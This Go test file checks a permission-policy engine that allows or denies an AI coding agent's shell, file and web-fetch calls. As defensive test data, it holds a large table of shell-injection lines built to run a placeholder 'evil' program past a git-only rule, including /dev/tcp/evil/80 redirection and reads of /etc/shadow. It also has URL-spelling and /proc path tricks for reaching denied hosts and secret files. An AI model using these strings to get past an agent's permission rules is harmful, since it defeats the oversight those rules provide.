package policy

import (
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"mvdan.cc/sh/v3/syntax"

	"github.com/deedrun/deed/contract/agentruntime"
	"github.com/deedrun/deed/contract/deed"
	"github.com/deedrun/deed/contract/settings"
)

func rule(effect, kind string, globs ...string) deed.Rule {
	r := deed.Rule{Effect: effect}
	switch kind {
	case "path":
		r.Path = globs
	case "host":
		r.Host = globs
	case "command":
		r.Command = globs
	case "tool":
		r.Tool = globs
	}
	return r
}

func home(rules ...deed.Rule) Ruleset { return Ruleset{Home: List{OriginHome, rules}} }

func input(t testing.TB, kv ...any) json.RawMessage {
	t.Helper()
	m := map[string]any{}
	for i := 0; i < len(kv); i += 2 {
		m[kv[i].(string)] = kv[i+1]
	}
	b, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestOneRuleFitsAllAgents(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		tool, name, subject string
		input               json.RawMessage
	}{
		{"read", ToolRead, "a.go", input(t, "path", "a.go")},
		{"Read", ToolRead, "a.go", input(t, "file_path", "/workspace/a.go")},
		{"list", ToolList, ".", nil},
		{"Glob", ToolFind, ".; /etc", input(t, "pattern", "/etc/*.conf")},
		{"Grep", ToolFind, "src", input(t, "pattern", "x", "path", "src")},
		{"write", ToolWrite, "a.go", input(t, "filePath", "/workspace/b/../a.go", "content", "x")},
		{"Edit", ToolEdit, "a.go", input(t, "file_path", "a.go")},
		{"apply_patch", ToolEdit, "a.go; b.go; c.go", input(t, "input", "*** Begin Patch\n*** Update File: a.go\n*** Move to: b.go\n@@\n*** Add File: c.go\n+x\n*** End Patch")},
		{"apply_patch", ToolEdit, "a b.go; n.go", input(t, "patch", "--- a/a b.go\t2026\n+++ b/a b.go\n@@ -1 +1 @@\n--- /dev/null\n+++ b/n.go\n")},
		{"apply_patch", ToolEdit, "a.go", input(t, "changes", map[string]any{"/workspace/a.go": map[string]any{"type": "add"}})},
		{"shell", ToolShell, "git status", input(t, "command", "git status")},
		{"Bash", ToolShell, "git status; make", input(t, "command", "git status && make")},
		{"exec_command", ToolShell, "git status", input(t, "cmd", "git  status")},
		{"shell", ToolShell, "git log 'a b'", input(t, "command", []string{"bash", "-lc", `git log "a b"`})},
		{"terminal/create", ToolShell, "git status", input(t, "command", "git", "args", []string{"status"})},
		{"WebFetch", ToolFetch, "example.com:443", input(t, "url", "https://Example.com./x")},
		{"webfetch", ToolFetch, "example.com:8080", input(t, "url", "http://u:p@example.com:8080/x")},
		{"Task", ToolSubagent, "", input(t, "prompt", "x")},
		{"TodoWrite", ToolTodo, "", nil},
		{"execute", ToolShell, "ls", input(t, "command", "ls")},
		{"move", ToolMove, "a; b", input(t, "source", "a", "destination", "b")},
		{"mcp__files__put", "mcp.files.put", "x", input(t, "path", "x")},
	} {
		got := Read(c.tool, c.input, Places{Root: "/workspace", Places: []Place{{"/workspace", "/nowhere"}}})
		if got.Name != c.name || got.Subject() != c.subject {
			t.Errorf("%s %s is %s %q, want %s %q", c.tool, c.input, got.Name, got.Subject(), c.name, c.subject)
		}
		if !got.named(c.name) || !got.named(strings.ToUpper(c.tool)) || !got.named("*") {
			t.Errorf("%s is not found by its names", c.tool)
		}
	}
}

func TestPaths(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	ws := filepath.Join(dir, "ws")
	for _, d := range []string{"src", "secrets"} {
		if err := os.MkdirAll(filepath.Join(ws, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for link, target := range map[string]string{
		"inner": "secrets", "out": "/etc", "up": "../..", "self": "self", "src/back": "../secrets/key", "home": "/home/agent/x", "abs": "/workspace/secrets",
	} {
		if err := os.Symlink(target, filepath.Join(ws, link)); err != nil {
			t.Fatal(err)
		}
	}
	places := Places{Root: "/workspace", Places: []Place{{"/workspace", ws}, {"/home/agent", filepath.Join(dir, "home")}}}
	allow := home(rule("deny", "path", "secrets/**"), rule("allow", "path", "**"))
	outside := home(rule("deny", "path", "/etc/shadow"), rule("allow", "path", "/etc/**", "/workspace/src/**"))
	for _, c := range []struct {
		set  Ruleset
		path string
		want agentruntime.PolicyEffect
	}{
		{allow, "src/a.go", "allow"},
		{allow, "./src//a.go", "allow"},
		{allow, "/workspace/src/a.go", "allow"},
		{allow, "src/../secrets/key", "deny"},
		{allow, "secrets", "deny"},
		{allow, "secrets/key", "deny"},
		{allow, "SECRETS/key", "allow"}, // another directory here
		{allow, "inner/key", "deny"},
		{allow, "abs/key", "deny"},
		{allow, "src/back", "deny"},
		{allow, "out/passwd", "deny"}, // leaves the workspace, and ** is only what is below it
		{allow, "up/x", "deny"},
		{allow, "../x", "deny"},
		{allow, "../workspace/src/a", "allow"},
		{allow, "/etc/passwd", "deny"},
		{allow, "self", "deny"},
		{allow, "home", "deny"},
		{allow, "", "deny"},
		{allow, "a\x00b", "deny"},
		{outside, "/etc/passwd", "allow"},
		{outside, "out/passwd", "allow"},
		{outside, "out/shadow", "deny"},
		{outside, "/etc/../etc/shadow", "deny"},
		{outside, "src/x", "allow"},
		{outside, "x", "deny"},
		{home(rule("deny", "path", "inner/**"), rule("allow", "tool", "*")), "inner/key", "deny"}, // as it is spelled
		{home(rule("allow", "path", "inner/**")), "inner/key", "deny"},                            // and an allow is for where it leads
	} {
		if got := c.set.Decide(Read("Read", input(t, "file_path", c.path), places)); got.Effect != c.want {
			t.Errorf("%q: %+v, want %s", c.path, got, c.want)
		}
	}
	patch := input(t, "input", "*** Begin Patch\n*** Update File: src/a.go\n*** Add File: inner/key\n*** End Patch")
	if v := allow.Decide(Read("apply_patch", patch, places)); v.Effect != "deny" || v.Subject != "secrets/key" {
		t.Errorf("one bad file among several: %+v", v)
	}
	if v := allow.Decide(Read("write", json.RawMessage(`{"path": "src/a", "con`), places)); v.Effect != "deny" {
		t.Errorf("an input that was cut: %+v", v)
	}
}

func TestHosts(t *testing.T) {
	t.Parallel()
	set := home(rule("deny", "host", "bad.example.com"), rule("allow", "host", "*.Example.com", "plain.org:443", "[::1]"))
	for address, want := range map[string]agentruntime.PolicyEffect{
		"https://a.example.com/x":             "allow",
		"https://A.EXAMPLE.COM.:8443/x":       "allow",
		"https://bad.example.com/":            "deny",
		"https://BAD.example.com.:444/":       "deny",
		"https://example.com/":                "deny",
		"https://a.example.com@evil.org/":     "deny",
		"https://evil.org/?x=a.example.com":   "deny",
		"https://evil.org#.example.com":       "deny",
		`https://evil.org\.example.com`:       "deny",
		`https://a.example.com\@evil.org`:     "deny",
		"https://evil.org%2f.example.com/":    "deny",
		"plain.org/page":                      "allow",
		"http://plain.org/page":               "deny",
		"http://[::1]:80/":                    "allow",
		"file:///etc/passwd":                  "deny",
		"http://[0:0:0:0:0:0:0:1]/":           "allow",
		"http://[::1%25eth0]/":                "deny",
		"https://ａ.example.com/":              "deny",
		"https://a。example.com/":              "deny",
		"https://a.ex%61mple.com/":            "deny",
		"gopher://a.example.com":              "deny",
		"https://a.example.com\r\nHost: evil": "deny",
		"":                                    "deny",
	} {
		if v := set.Decide(Read("WebFetch", input(t, "url", address), Places{})); v.Effect != want {
			t.Errorf("%q: %+v, want %s", address, v, want)
		}
	}
}

// A deny holds however a host or a path is spelled, as far as fetchers and kernels read it in the same way.
func TestDenyHoldsForOtherSpellings(t *testing.T) {
	t.Parallel()
	set := home(rule("deny", "host", "bad.example.com", "127.0.0.1", "[::1]"), rule("deny", "path", "secrets/**"), rule("allow", "tool", "*"))
	for address, want := range map[string]agentruntime.PolicyEffect{
		"https://bad.example.com": "deny", "https://bad。example.com": "deny", "https://ｂad.example.com": "deny", "https://b%61d.example.com": "deny",
		"http://127.0.0.1": "deny", "http://127.1": "deny", "http://0x7f.0.0.1": "deny", "http://2130706433": "deny", "http://017700000001": "deny", "http://127.0.0.1.": "deny",
		"http://[0:0::1]": "deny", "http://[::ffff:127.0.0.1]": "deny", "http://[::ffff:7f00:1]": "deny", "http://[::1%25lo]": "deny",
		"https://good.example.com": "allow", "http://10.0.0.1": "allow", "https://xn--bcher-kva.example": "allow", "https://4ever.example": "allow",
	} {
		if v := set.Decide(Read("WebFetch", input(t, "url", address), Places{})); v.Effect != want {
			t.Errorf("%q: %+v, want %s", address, v, want)
		}
	}
	for path, want := range map[string]agentruntime.PolicyEffect{
		"secrets/key": "deny", "./secrets//key": "deny", "/w/secrets/key": "deny", "x/../secrets/key": "deny", "file:///w/secrets/key": "deny", "secrets/": "deny",
		"/proc/self/cwd/secrets/key": "deny", "/proc/thread-self/root/w/secrets/key": "deny", "/proc/1/cwd/secrets/key": "deny", "/dev/fd/3": "deny", "/proc/../proc/self/cwd/x": "deny",
		"/proc/cpuinfo": "allow", "src/a": "allow", "secretsx/key": "allow",
	} {
		for _, places := range []Places{{Root: "/w"}, {Root: "/w", Places: []Place{{"/w", t.TempDir()}}}} {
			if v := set.Decide(Read("Read", input(t, "file_path", path), places)); v.Effect != want {
				t.Errorf("%q: %+v, want %s", path, v, want)
			}
		}
	}
}

// injections try to run evil where only git is allowed. plain is what may be allowed.
var injections = []struct {
	line  string
	plain bool
}{
	{"git status", true},
	{"git   status", true},
	{`"git" 'status'`, true},
	{`g\it status`, true},
	{"git status # ; evil", true},
	{"git log --format='%h; evil'", true},
	{`git commit -m "a && evil"`, true},
	{"git status\ngit log", true},
	{"git status && git log || git show", true},
	{"(git status)", true},
	{"git log $(git rev-parse HEAD)", true},
	{"bash -c 'git status'", true},
	{"eval git status", true},
	{"git status 2>&1", true},
	{"git status >/dev/null", true},
	{"git log <<X\nevil\nX", true},
	{"if git status; then git log; fi", true},
	{"git status; evil", false},
	{"git status;evil", false},
	{"git status && evil", false},
	{"git status || evil", false},
	{"! git x || evil", false},
	{"git status | evil", false},
	{"git status |& evil", false},
	{"git status & evil", false},
	{"git status\nevil", false},
	{"git status\r\nevil", false},
	{"git status $(evil)", false},
	{"git status `evil`", false},
	{`git status "$(evil)"`, false},
	{`git status "` + "`evil`" + `"`, false},
	{"git status <(evil)", false},
	{"git status > >(evil)", false},
	{"git <<X\n$(evil)\nX", false},
	{"git <<<$(evil)", false},
	{"git ${x:-$(evil)}", false},
	{"git $((1 + $(evil)))", false},
	{"git ${x:=evil}", false},
	{"{ git status; evil; }", false},
	{"(git status; evil)", false},
	{"git() { evil; }; git status", false},
	{"alias git=evil\ngit status", false},
	{"PATH=. git status", false},
	{"PATH=.; git status", false},
	{"export PATH=.; git status", false},
	{"for PATH in .; do git status; done", false},
	{"until evil; do git status; done", false},
	{"case x in x) evil;; esac", false},
	{"[[ $(evil) ]] || git status", false},
	{"a[$(evil)]=1 git status", false},
	{"coproc evil; git status", false},
	{"time evil; git status", false},
	{"bash -c 'git status; evil'", false},
	{"bash -c 'git status' ; evil", false},
	{`bash -c "$X"`, false},
	{"bash -O extglob -c 'evil'", false},
	{"eval 'git status; evil'", false},
	{`eval "ev""il"`, false},
	{"sudo git status", false},
	{"env git status", false},
	{"command evil", false},
	{"exec evil", false},
	{"trap evil EXIT; git status", false},
	{". ./evil", false},
	{"'git /evil'", false},
	{"git/evil", false},
	{"./git status", false},
	{"git\\ status", false},
	{"g?t status", false},
	{"$GIT status", false},
	{"~/git status", false},
	{"{git,evil} status", false},
	{"git status > evil", false},
	{"git status >> ~/.profile", false},
	{"git status >| $F", false},
	{"git status &> /etc/x", false},
	{"git status < /etc/shadow", false},
	{"git status > /dev/tcp/evil/80", false},
	{"git @(a|$(evil)) status", false},
	// What bash evaluates as arithmetic it expands a second time, quoted or not.
	{"git status; let 'a[$(evil)]=1'", false},
	{"git status; [[ 'a[$(evil)]' -eq 0 ]]", false},
	{`git status; [[ "a[\$(evil)]" -eq 0 ]]`, false},
	{"git status; [[ -v 'a[$(evil)]' ]]", false},
	{"git status $(('a[$(evil)]'))", false},
	{"git status $((1+'a[$(evil)]'))", false},
	{"git status ${x['$(evil)']}", false},
	{`git status "${x['$(evil)']}"`, false},
	{"git status <<<\"${x['$(evil)']}\"", false},
	{"git status ${!x}", false},
	{"git log -n $((2 + 3))", true},
	{"git log ${x:0:7}", true},
	{`if [[ "$x" == 'a' ]]; then git log; fi`, true},
	{"if [[ $x -gt 3 ]]; then git log; fi", true},
	{"git log -n $(( $(git rev-list --format='%h') + 1 ))", true},
	{"bash <<<evil", false},
	{"git log | sh", false},
	{"git status; (", false},
	{"git status '", false},
	{"git status \x00; evil", false},
	{"git status " + strings.Repeat("x", maxLine), false},
	{strings.Repeat("git status;", maxCommands+1), false},
	{nested("env", 30, maxNested+1), false},
	{nested("sh -c", 30, maxNested+1), false},
}

// nested is a line whose every word is a line of the same kind.
func nested(command string, words, depth int) string {
	line := "git status"
	for range depth {
		if len(line)*words > maxLine/2 {
			words = 2
		}
		line = command + strings.Repeat(" "+quote(line), words)
	}
	return line
}

func TestCommandInjection(t *testing.T) {
	t.Parallel()
	allow := home(rule("allow", "command", "git *"))
	deny := home(rule("deny", "command", "evil", "evil *"), rule("allow", "tool", "shell"))
	for _, c := range injections {
		v := allow.Decide(Read("Bash", input(t, "command", c.line), Places{Root: "/workspace"}))
		if (v.Effect == "allow") != c.plain {
			t.Errorf("%.80q: %+v, want allowed: %t", c.line, v, c.plain)
		}
		if c.plain {
			if v := deny.Decide(Read("Bash", input(t, "command", c.line), Places{Root: "/workspace"})); v.Effect != "allow" {
				t.Errorf("%.80q: %+v, want allowed", c.line, v)
			}
		}
	}
	for _, line := range []string{
		"evil x", "/usr/bin/evil x", "A=1 evil x", `e"vi"l x`, `ev\il x`, "sudo evil x", "sudo -u root evil x", "env A=1 evil x", "timeout 5 evil x",
		"xargs -n 1 evil x", "find . -exec evil x {} +", "sh -c 'evil x'", "sudo sh -c 'evil x'", "bash --norc -c 'evil x'", "eval evil x", "git $(evil x)",
		"env -S 'evil x'", "su root -c 'evil x'", "script -qc 'evil x' /dev/null", "watch 'evil x'", "flock f -c 'evil x'", "xargs -I{} sh -c 'evil x {}'",
		"ssh host evil x", "sh <<X\nevil x\nX", "bash <<<'evil x'", "echo evil x | sh", "echo evil x | bash -s -- y", "bash -i", "let 'a[$(evil x)]'",
		"x='a[$(evil x)]'; echo ${!x}", "$E x", "$(echo evil) x", "ev* x", "( evil x", "nohup setsid evil x &", "exec evil", "if true; then evil; fi",
	} {
		if v := deny.Decide(Read("Bash", input(t, "command", line), Places{Root: "/workspace"})); v.Effect != "deny" {
			t.Errorf("%q: %+v, want denied", line, v)
		}
	}
}

// What real shells run for these lines is what the rules say. Lines that are allowed for git must not start anything
// else.
func TestShellsAgree(t *testing.T) {
	t.Parallel()
	for _, shell := range []string{"/bin/sh", "bash"} {
		bin, err := exec.LookPath(shell)
		if err != nil {
			t.Skip("missing tool: " + shell + ": apt-get install bash")
		}
		dir := t.TempDir()
		mark := filepath.Join(dir, "ran")
		allow := home(rule("allow", "command", "git *"))
		ran := 0
		for _, c := range injections {
			if strings.ContainsRune(c.line, 0) || len(c.line) > 1000 {
				continue
			}
			// Some of the lines write over these files.
			for name, text := range map[string]string{"git": "#!/bin/sh\nexit 0\n", "evil": "#!/bin/sh\n: > " + mark + "\n"} {
				if have, err := os.ReadFile(filepath.Join(dir, name)); err == nil && string(have) == text {
					continue
				}
				_ = os.Remove(filepath.Join(dir, name))
				if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o755); err != nil {
					t.Fatal(err)
				}
			}
			ctx, cancel := context.WithTimeout(t.Context(), 10*time.Second) // a line that loops must not hang the test
			cmd := exec.CommandContext(ctx, bin, "-c", c.line)
			cmd.Dir, cmd.Env = dir, []string{"PATH=" + dir + ":/usr/bin:/bin", "HOME=" + dir, "GIT=evil", "X=evil", "E=evil", "F=" + filepath.Join(dir, "f")}
			cmd.WaitDelay = time.Second
			_ = cmd.Run() // many of them are wrong on purpose
			cancel()
			_, err := os.Stat(mark)
			_ = os.Remove(mark)
			if err != nil {
				continue
			}
			ran++
			if v := allow.Decide(Read("Bash", input(t, "command", c.line), Places{Root: dir})); v.Effect == "allow" {
				t.Errorf("%s: %q runs evil and is allowed: %+v", shell, c.line, v)
			}
		}
		if ran < 20 {
			t.Errorf("%s: only %d lines ran evil: the table proves little", shell, ran)
		}
	}
}

func TestListsNarrow(t *testing.T) {
	t.Parallel()
	call := func(line string) Call { return Read("Bash", input(t, "command", line), Places{Root: "/w"}) }
	git := rule("allow", "command", "git *")
	for _, c := range []struct {
		name string
		set  Ruleset
		line string
		want agentruntime.PolicyEffect
		rule string
	}{
		{"nothing said", Ruleset{}, "rm -rf /", "allow", RuleNoPolicy},
		{"named", home(git), "git status", "allow", "home/1"},
		{"not named", home(git), "make", "deny", RuleDefault},
		{"first match", home(rule("deny", "command", "git push*"), git), "git push x", "deny", "home/1"},
		{"first match, the other way", home(git, rule("deny", "command", "git push*")), "git push x", "allow", "home/1"},
		{"a task cannot widen", Ruleset{Home: List{OriginHome, []deed.Rule{rule("deny", "command", "git *")}}, Narrow: []List{{OriginTask, []deed.Rule{git}}}}, "git x", "deny", "home/1"},
		{"a task cannot name for the home", Ruleset{Home: List{OriginHome, []deed.Rule{rule("allow", "command", "make")}}, Narrow: []List{{OriginTask, []deed.Rule{git}}}}, "git x", "deny", RuleDefault},
		{"a task narrows", Ruleset{Home: List{OriginHome, []deed.Rule{git}}, Narrow: []List{{OriginTask, []deed.Rule{rule("ask", "command", "git push*")}}}}, "git push", "ask", "task/1"},
		{"a task's silence is none", Ruleset{Home: List{OriginHome, []deed.Rule{git}}, Narrow: []List{{OriginTask, []deed.Rule{rule("ask", "command", "git push*")}}}}, "git log", "allow", "home/1"},
		{"a task alone", Ruleset{Narrow: []List{{OriginTask, []deed.Rule{git}}}}, "git log", "allow", "task/1"},
		{"a task alone, not named", Ruleset{Narrow: []List{{OriginTask, []deed.Rule{git}}}}, "make", "deny", RuleDefault},
		{"two that narrow", Ruleset{Narrow: []List{{OriginTask, []deed.Rule{rule("ask", "", "")}}, {OriginProject, []deed.Rule{rule("deny", "tool", "BASH")}}}}, "x", "deny", "project/1"},
		{"default of the operator", Ruleset{Home: List{OriginHome, []deed.Rule{git}}, Default: "ask"}, "make", "ask", RuleDefault},
		{"default alone", Ruleset{Default: "deny"}, "make", "deny", RuleDefault},
		{"default allow", Ruleset{Default: "allow"}, "make", "allow", RuleDefault},
		{"default allow is not for riddles", Ruleset{Default: "allow"}, "make (", "deny", RuleDefault},
		{"default allow narrowed", Ruleset{Default: "allow", Narrow: []List{{OriginTask, []deed.Rule{rule("deny", "command", "make*")}}}}, "make", "deny", "task/1"},
		{"a shell that is allowed whole", home(rule("allow", "tool", "shell")), "make (", "allow", "home/1"},
	} {
		if v := c.set.Decide(call(c.line)); v.Effect != c.want || v.Rule != c.rule {
			t.Errorf("%s: %+v, want %s by %s", c.name, v, c.want, c.rule)
		}
	}
	unknown := Read("frobnicate", input(t, "path", "src/x"), Places{Root: "/w"})
	if v := home(rule("allow", "path", "src/**")).Decide(unknown); v.Effect != "deny" {
		t.Errorf("an unknown tool is allowed by its path: %+v", v)
	}
	if v := home(deed.Rule{Effect: "allow", Tool: []string{"frob*"}, Path: []string{"src/**"}}).Decide(unknown); v.Effect != "allow" {
		t.Errorf("an unknown tool that is named: %+v", v)
	}
}

func TestAssemble(t *testing.T) {
	t.Parallel()
	find := func(name string) ([]deed.Rule, error) { return []deed.Rule{{Name: name, Effect: "deny"}}, nil }
	set, err := Assemble(&settings.Policy{Rules: []deed.Rule{{Effect: "allow"}}, UnattendedDefault: "ask"},
		&deed.TaskPolicy{Use: []string{"calm"}, Rules: []deed.Rule{{Effect: "ask"}}, Project: []deed.Rule{{Effect: "allow"}}}, find)
	if err != nil {
		t.Fatal(err)
	}
	var origins []string
	for _, l := range set.Lists() {
		origins = append(origins, l.Origin)
	}
	if got := strings.Join(origins, " "); got != "task policies.calm project home" || len(set.Flat()) != 4 {
		t.Errorf("lists are %s", got)
	}
	if v := set.Decide(Read("x", nil, Places{})); v.Effect != "deny" || v.Rule != "policies.calm/calm" {
		t.Errorf("decision is %+v", v)
	}
	if set, err := Assemble(nil, nil, nil); err != nil || !set.Empty() {
		t.Errorf("nothing at all: %+v %v", set, err)
	}
}

func TestDigestIsOfTheWholeCall(t *testing.T) {
	t.Parallel()
	digest := func(tool, in string) string {
		d, err := Read(tool, json.RawMessage(in), Places{}).Digest("")
		if err != nil {
			t.Fatal(err)
		}
		return d
	}
	same := digest("Bash", `{"command": "x", "n": 1.0}`)
	if got := digest("Bash", `{"n":1,"command":"x"}`); got != same {
		t.Error("the order of members counts")
	}
	for _, other := range []string{digest("bash", `{"command": "x", "n": 1}`), digest("Bash", `{"command": "x"}`), digest("Bash", `{"command": "x`), digest("Bash", ``)} {
		if other == same {
			t.Error("two calls have one digest")
		}
	}
}

func TestWild(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		glob, text string
		want       bool
	}{
		{"*", "", true},
		{"", "", true},
		{"", "a", false},
		{"a*c", "abbc", true},
		{"a*c", "abb", false},
		{"a?c", "aéc", true},
		{"a?c", "ac", false},
		{`a\*`, "a*", true},
		{`a\*`, "ab", false},
		{"*a*b*", "xxaxxbxx", true},
		{"*.com", "a.com.org", false},
		{`\\`, `\`, true},
		{"git *", "git", false},
		{"*", "bash", true},
		{"b?sh", "bash", true},
		{"b*h", "bash", true},
		{"bash", "bashes", false},
		{"", "x", false},
		{"?", "", false},
		{"*x*", "bash", false},
		{strings.Repeat("*a", 50) + "b", strings.Repeat("a", 5000), false},
	} {
		if got := wild(c.glob, c.text); got != c.want {
			t.Errorf("wild(%.20q, %.20q) = %t", c.glob, c.text, got)
		}
	}
}

// An allow rule for one program never allows a line in which a shell finds another one.
func FuzzCommands(f *testing.F) {
	for _, c := range injections {
		if len(c.line) < 200 {
			f.Add(c.line)
		}
	}
	allow := home(rule("allow", "command", "git *"))
	f.Fuzz(func(t *testing.T, line string) {
		v := allow.Decide(Read("Bash", input(t, "command", line), Places{Root: "/workspace"}))
		if v.Effect != "allow" {
			return
		}
		if bad := notGit(strings.ToValidUTF8(line, "\ufffd"), 0); bad != "" {
			t.Errorf("%q is allowed, and runs %s", line, bad)
		}
	})
}

// notGit finds a command that is not git, in a way of its own.
func notGit(line string, depth int) string {
	if depth > maxNested+1 {
		return "too much"
	}
	file, err := syntax.NewParser().Parse(strings.NewReader(line), "")
	if err != nil {
		return "what cannot be parsed"
	}
	bad := ""
	syntax.Walk(file, func(n syntax.Node) bool {
		switch n := n.(type) {
		case *syntax.DeclClause, *syntax.ForClause:
			bad = "a declaration"
		case *syntax.CallExpr:
			if len(n.Assigns) > 0 || len(n.Args) == 0 {
				bad = "an assignment"
				return true
			}
			name, ok := literal(n.Args[0])
			switch {
			case ok && name == "git":
			case ok && (name == "eval" || cOption().MatchString(n.Args[min(1, len(n.Args)-1)].Lit())):
				at := 2
				if name == "eval" {
					at = 1
				}
				var rest []string
				for _, w := range n.Args[min(at, len(n.Args)):] {
					s, _ := literal(w)
					rest = append(rest, s)
					if name != "eval" {
						break
					}
				}
				if b := notGit(strings.Join(rest, " "), depth+1); b != "" {
					bad = b
				}
			default:
				bad = name
			}
		}
		return true
	})
	return bad
}

// An answer that holds always covers what it was given for, and nothing that only looks like it.
func TestScopeIsOfWhatWasAsked(t *testing.T) {
	t.Parallel()
	scope := func(tool, in string) string {
		d, err := Read(tool, json.RawMessage(in), Places{Root: "/w"}).Scope()
		if err != nil {
			t.Fatal(err)
		}
		return d
	}
	if scope("Bash", `{"command":"git  push"}`) != scope("Bash", `{"command":"git push", "description":"x"}`) {
		t.Error("blanks and descriptions count")
	}
	long := strings.Repeat("x", 300)
	for _, pair := range [][4]string{
		{"Bash", `{"command":"echo x > \"rm -rf y\""}`, "Bash", `{"command":"echo x; rm -rf y"}`},
		{"Bash", `{"command":"python3 <<X\na\nX"}`, "Bash", `{"command":"python3 <<X\nb\nX"}`},
		{"Bash", `{"command":"$X ` + long + ` a"}`, "Bash", `{"command":"$X ` + long + ` b"}`},
		{"Bash", `{"command":"( ` + long + ` a"}`, "Bash", `{"command":"( ` + long + ` b"}`},
		{"Bash", `{"command":"rm -rf build"}`, "Bash", `{"command":"rm -rf build", "workdir":"/home"}`},
		{"Bash", `{"command":"make"}`, "Bash", `{"command":"make", "env":{"PATH":"."}}`},
		{"Bash", `{"command":"a && b"}`, "Bash", `{"command":"a || b"}`},
		{"Write", `{"file_path":"a; b"}`, "Write", `{"paths":["a","b"]}`},
		{"Write", `{"content":"a"}`, "Write", `{"content":"b"}`},
		{"Read", `{"file_path":"a"}`, "Write", `{"file_path":"a"}`},
	} {
		if scope(pair[0], pair[1]) == scope(pair[2], pair[3]) {
			t.Errorf("%s and %s have one scope", pair[1], pair[3])
		}
	}
}

// The environment of a call is as good as assignments before its command.
func TestEnvironmentOfACommand(t *testing.T) {
	t.Parallel()
	set := home(rule("allow", "command", "git *", "CI=*"))
	for in, want := range map[string]agentruntime.PolicyEffect{
		`{"command":"git status"}`:                                                 "allow",
		`{"command":"git status","env":null}`:                                      "allow",
		`{"command":"git status","env":{}}`:                                        "allow",
		`{"command":"git status","env":[]}`:                                        "allow",
		`{"command":"git status","env":{"CI":"1"}}`:                                "allow",
		`{"command":"git status","env":{"PATH":"."}}`:                              "deny",
		`{"command":"git status","env":{"CI":"1","PATH":"."}}`:                     "deny",
		`{"command":"git status","env":[{"name":"LD_PRELOAD","value":"./x.so"}]}`:  "deny",
		`{"command":"git status","env":["PATH=."]}`:                                "deny",
		`{"command":"git status","env":[{"NAME":"PATH"}]}`:                         "deny",
		`{"command":"git status","env":"PATH=."}`:                                  "deny",
		`{"command":"git","args":["status"],"env":[{"name":"PATH","value":"/x"}]}`: "deny",
	} {
		if v := set.Decide(Read("terminal/create", json.RawMessage(in), Places{Root: "/w"})); v.Effect != want {
			t.Errorf("%s: %+v, want %s", in, v, want)
		}
	}
}
